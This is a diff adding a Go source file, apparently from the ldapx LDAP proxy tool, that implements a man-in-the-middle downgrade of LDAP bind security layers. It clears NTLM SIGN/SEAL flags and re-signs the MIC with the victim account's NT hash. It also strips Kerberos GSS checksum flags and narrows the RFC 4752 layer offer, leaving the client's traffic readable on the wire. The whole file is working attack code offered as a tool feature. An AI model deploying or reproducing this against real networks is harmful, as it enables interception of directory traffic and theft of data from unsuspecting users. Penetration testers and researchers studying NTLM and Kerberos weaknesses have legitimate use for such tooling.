@@ -0,0 +1,321 @@
+package decrypt
+
+import (
+	"bytes"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"strings"
+
+	"github.com/Macmod/ldapx/log"
+	ber "github.com/go-asn1-ber/asn1-ber"
+	"github.com/oiweiwei/gokrb5.fork/v9/gssapi"
+	"github.com/oiweiwei/gokrb5.fork/v9/spnego"
+)
+
+// Security layer downgrade (--downgrade-layer). The bind's layer negotiation
+// is rewritten so that client and target agree on a weaker post-bind layer
+// than the client asked for, leaving its traffic readable on the wire
+// without any inline decryption:
+//
+//   - NTLM: SIGN/SEAL are cleared from the NEGOTIATE_MESSAGE, so the
+//     CHALLENGE_MESSAGE the client gets back no longer grants them, and from
+//     the AUTHENTICATE_MESSAGE. The MIC covering all three messages is
+//     re-signed with the account's NT hash.
+//   - Kerberos over SASL/GSSAPI: the Authenticator's GSS checksum flags are
+//     cleared, re-encrypting it under the ticket's session key, and the
+//     RFC 4752 §3.3 layer bitmask the target offers is narrowed before the
+//     client picks from it.
+//
+// Kerberos inside GSS-SPNEGO is left alone: nothing in that exchange tells
+// the client what the target accepted, so it would keep wrapping its
+// traffic at the layer it asked for.
+
+// ParseDowngradeLayer parses a --downgrade-layer value. An empty value is
+// LayerUnknown, meaning no downgrade.
+func ParseDowngradeLayer(s string) (SecurityLayer, error) {
+	switch strings.ToLower(s) {
+	case "":
+		return LayerUnknown, nil
+	case "sign", "sign-only":
+		return LayerSignOnly, nil
+	case "none":
+		return LayerNone, nil
+	}
+	return LayerUnknown, fmt.Errorf("invalid security layer '%s' (expected sign or none)", s)
+}
+
+// RFC 4752 §3.3 security layer bitmask bits.
+const (
+	rfc4752LayerNone      byte = 0x01
+	rfc4752LayerIntegrity byte = 0x02
+)
+
+// downgradeMasks returns the NTLM negotiate flags and GSS checksum flags
+// to strip for a downgrade to target, and the RFC 4752 layers still
+// allowed.
+func downgradeMasks(target SecurityLayer) (ntlmFlags, gssFlags uint32, rfc4752Allowed byte) {
+	if target == LayerNone {
+		return ntlmNegotiateSeal | ntlmNegotiateSign, gssapi.ContextFlagConf | gssapi.ContextFlagInteg, rfc4752LayerNone
+	}
+	return ntlmNegotiateSeal, gssapi.ContextFlagConf, rfc4752LayerNone | rfc4752LayerIntegrity
+}
+
+// DowngradeBindRequest rewrites the layer negotiation in a BindRequest's
+// credentials down to cfg.Downgrade. Returns the original packet unchanged
+// when no downgrade is configured, and on any failure.
+func DowngradeBindRequest(bs *BindSession, packet *ber.Packet, cfg Config) *ber.Packet {
+	if cfg.Downgrade == LayerUnknown {
+		return packet
+	}
+
+	auth, carrier, credBytes, ok := bindCreds(packet)
+	if !ok || len(credBytes) == 0 {
+		return packet
+	}
+
+	var newCreds []byte
+	var err error
+
+	switch carrier.mech {
+	case "GSSAPI":
+		newCreds, err = downgradeKerberosChecksum(credBytes, cfg)
+		if err == nil && newCreds == nil {
+			newCreds, err = downgradeNTLM(bs, credBytes, cfg)
+		}
+	case "GSS-SPNEGO":
+		if _, krbErr := apReqFromSPNEGOToken(credBytes); krbErr == nil {
+			bs.logOnce(&bs.dgFailLogged, failColor.Sprintf("[-] Security layer of the %s bind not downgraded: a client using Kerberos inside SPNEGO is never told the layer was reduced", carrier.label()))
+			return packet
+		}
+		newCreds, err = downgradeNTLM(bs, credBytes, cfg)
+	case "NTLM", "NTLMSSP", sicilyMech:
+		newCreds, err = downgradeNTLM(bs, credBytes, cfg)
+	default:
+		return packet
+	}
+
+	switch {
+	case err != nil:
+		bs.logOnce(&bs.dgFailLogged, failColor.Sprintf("[-] Security layer of the %s bind could not be downgraded: %v", carrier.label(), err))
+		return packet
+	case newCreds == nil:
+		return packet
+	}
+
+	carrier.write(packet, auth, newCreds)
+	bs.logOnce(&bs.dgLogged, decryptColor.Sprintf("[+] Security layer of the %s bind downgraded to %s", carrier.label(), cfg.Downgrade))
+	return packet
+}
+
+// DowngradeBindResponse narrows the RFC 4752 §3.3 security layer offer a
+// SASL/GSSAPI BindResponse carries to the layers cfg.Downgrade allows. Only
+// the wrapped offer is touched; every other response passes unchanged.
+func DowngradeBindResponse(bs *BindSession, packet *ber.Packet, cfg Config) *ber.Packet {
+	if cfg.Downgrade == LayerUnknown || len(packet.Children) < 2 {
+		return packet
+	}
+	resp := packet.Children[1]
+	if len(resp.Children) < 1 {
+		return packet
+	}
+	if resultCode, _ := resp.Children[0].Value.(int64); resultCode != resultSaslBindInProgress {
+		return packet
+	}
+
+	var creds *ber.Packet
+	for _, child := range resp.Children {
+		if child.ClassType == ber.ClassContext && child.Tag == serverSaslCredsTag {
+			creds = child
+		}
+	}
+	if creds == nil {
+		return packet
+	}
+	token := primitiveBytes(creds)
+	if !bytes.HasPrefix(token, cfxWrapTokenID) && !isRC4WrapToken(rc4StripOID(token)) {
+		return packet
+	}
+
+	bs.mu.Lock()
+	if bs.hsMech != MechSaslGSSAPI || len(bs.pending) == 0 {
+		bs.mu.Unlock()
+		return packet
+	}
+	gss, _, err := bs.gssapiKerberosContext(cfg)
+	bs.mu.Unlock()
+	if err != nil {
+		bs.logOnce(&bs.dgFailLogged, failColor.Sprintf("[-] RFC 4752 security layer offer could not be downgraded: %v", err))
+		return packet
+	}
+
+	newToken, err := downgradeRFC4752Offer(gss, token, cfg.Downgrade)
+	switch {
+	case err != nil:
+		bs.logOnce(&bs.dgFailLogged, failColor.Sprintf("[-] RFC 4752 security layer offer could not be downgraded: %v", err))
+		return packet
+	case newToken == nil:
+		return packet
+	}
+
+	setPrimitiveBytes(creds, newToken)
+	rebuildBerData(resp)
+	rebuildBerData(packet)
+	log.Log.Print(decryptColor.Sprintf("[+] RFC 4752 security layer offer narrowed to %s", cfg.Downgrade))
+	return packet
+}
+
+// cfxWrapTokenID is the TOK_ID of an RFC 4121 §4.2.6.2 Wrap token.
+var cfxWrapTokenID = []byte{0x05, 0x04}
+
+// downgradeRFC4752Offer rewraps the target's RFC 4752 offer token with the
+// layers target doesn't allow removed from its bitmask. Returns nil when
+// the offer holds nothing to remove.
+func downgradeRFC4752Offer(gss *gssSessionContext, token []byte, target SecurityLayer) ([]byte, error) {
+	plain, sealed, seqNum, err := gss.acceptor.verifyAndExtract(token, true)
+	if err != nil {
+		return nil, err
+	}
+	// bitmask(1) | max buffer size(3)
+	if len(plain) != 4 {
+		return nil, nil
+	}
+
+	_, _, allowed := downgradeMasks(target)
+	offered := plain[0]
+	if offered&^allowed == 0 {
+		return nil, nil
+	}
+	if offered&allowed == 0 {
+		return nil, fmt.Errorf("the target only offers layers stronger than %s (bitmask %#02x)", target, offered)
+	}
+
+	narrowed := append([]byte(nil), plain...)
+	narrowed[0] = offered & allowed
+	return gss.acceptor.wrap(narrowed, true, sealed, seqNum)
+}
+
+// downgradeKerberosChecksum clears the downgraded layers' flags from the
+// GSS checksum of a bare SASL/GSSAPI AP-REQ. Returns nil credentials and no
+// error when credBytes holds no AP-REQ or its flags already fit.
+func downgradeKerberosChecksum(credBytes []byte, cfg Config) ([]byte, error) {
+	var tok spnego.KRB5Token
+	if err := tok.Unmarshal(credBytes); err != nil || !tok.IsAPReq() {
+		return nil, nil
+	}
+
+	_, strip, _ := downgradeMasks(cfg.Downgrade)
+	return rewriteGSSChecksum(credBytes, &tok.APReq, cfg, func(cksum []byte) []byte {
+		at := 4 + int(binary.LittleEndian.Uint32(cksum[:4]))
+		if at < 4 || len(cksum) < at+4 {
+			return nil
+		}
+		flags := binary.LittleEndian.Uint32(cksum[at : at+4])
+		if flags&strip == 0 {
+			return nil
+		}
+		out := append([]byte(nil), cksum...)
+		binary.LittleEndian.PutUint32(out[at:at+4], flags&^strip)
+		return out
+	})
+}
+
+// downgradeNTLM clears the downgraded layers' flags from a NEGOTIATE_MESSAGE
+// or AUTHENTICATE_MESSAGE. The AUTHENTICATE_MESSAGE's MIC is re-signed
+// whenever either message changed. Both fields are fixed-size, so the
+// message is patched where it sits, whatever carries it. Returns nil
+// credentials and no error when there is nothing to rewrite.
+func downgradeNTLM(bs *BindSession, credBytes []byte, cfg Config) ([]byte, error) {
+	idx := bytes.Index(credBytes, ntlmSignature)
+	if idx < 0 {
+		return nil, nil
+	}
+	msg := credBytes[idx:]
+	length, err := ntlmMessageLength(msg)
+	if err != nil {
+		return nil, nil
+	}
+	msg = msg[:length]
+
+	strip, _, _ := downgradeMasks(cfg.Downgrade)
+
+	var newMsg []byte
+	switch le32(msg[8:12]) {
+	case 1:
+		flags := le32(msg[12:16])
+		bs.mu.Lock()
+		bs.ntlmDowngraded = false
+		bs.mu.Unlock()
+		if flags&strip == 0 {
+			return nil, nil
+		}
+		// Checked now rather than on the AUTHENTICATE_MESSAGE: once this
+		// message is changed the MIC has to be re-signed.
+		if _, haveHash := cfg.resolveNTHash(); !haveHash && cfg.Store == nil {
+			return nil, errors.New("no --decrypt-hash/--decrypt-password/--decrypt-store credential to re-sign the MIC with")
+		}
+		newMsg = append([]byte(nil), msg...)
+		binary.LittleEndian.PutUint32(newMsg[12:16], flags&^strip)
+		bs.mu.Lock()
+		bs.ntlmDowngraded = true
+		bs.mu.Unlock()
+
+	case 3:
+		flags := le32(msg[60:64])
+		bs.mu.Lock()
+		negotiateChanged := bs.ntlmDowngraded
+		pending := append([][]byte(nil), bs.pending...)
+		bs.mu.Unlock()
+		if flags&strip == 0 && !negotiateChanged {
+			return nil, nil
+		}
+		newMsg = append([]byte(nil), msg...)
+		binary.LittleEndian.PutUint32(newMsg[60:64], flags&^strip)
+		if err := resignNTLMMIC(newMsg, cfg, pending); err != nil {
+			return nil, err
+		}
+
+	default:
+		return nil, nil
+	}
+
+	out := append([]byte(nil), credBytes...)
+	copy(out[idx:], newMsg)
+	return out, nil
+}
+
+// resignNTLMMIC recomputes an AUTHENTICATE_MESSAGE's MIC, if it carries
+// one, under the ExportedSessionKey recovered with the account's NT hash.
+func resignNTLMMIC(authMsg []byte, cfg Config, pending [][]byte) error {
+	if _, present := ntlmMICOffset(authMsg); !present {
+		return nil
+	}
+
+	ntHash, haveHash := cfg.ntHashFor(authMsg)
+	if !haveHash {
+		return errors.New("no --decrypt-hash/--decrypt-password/--decrypt-store credential for the account")
+	}
+	auth, err := parseNTLMAuthenticate(authMsg)
+	if err != nil {
+		return err
+	}
+	challengeMsg, ok := findNTLMMessage(pending, 2)
+	if !ok {
+		return errors.New("no CHALLENGE_MESSAGE observed on this connection")
+	}
+	challenge, err := parseNTLMChallenge(challengeMsg)
+	if err != nil {
+		return err
+	}
+
+	var keys *ntlmv2SessionKeys
+	if ntlmResponseIsV2(auth.NtChallengeResponse) {
+		keys, err = deriveNTLMv2SessionKeys(ntHash, auth.User, auth.Domain, challenge.ServerChallenge, auth.NtChallengeResponse, auth.EncryptedRandomSessionKey, auth.NegotiateFlags)
+	} else {
+		keys, err = deriveNTLMv1SessionKeys(ntHash, challenge.ServerChallenge, auth.NtChallengeResponse, auth.LmChallengeResponse, auth.EncryptedRandomSessionKey, auth.NegotiateFlags)
+	}
+	if err != nil {
+		return err
+	}
+	return signNTLMMIC(authMsg, keys.ExportedSessionKey, challengeMsg, pending)
+}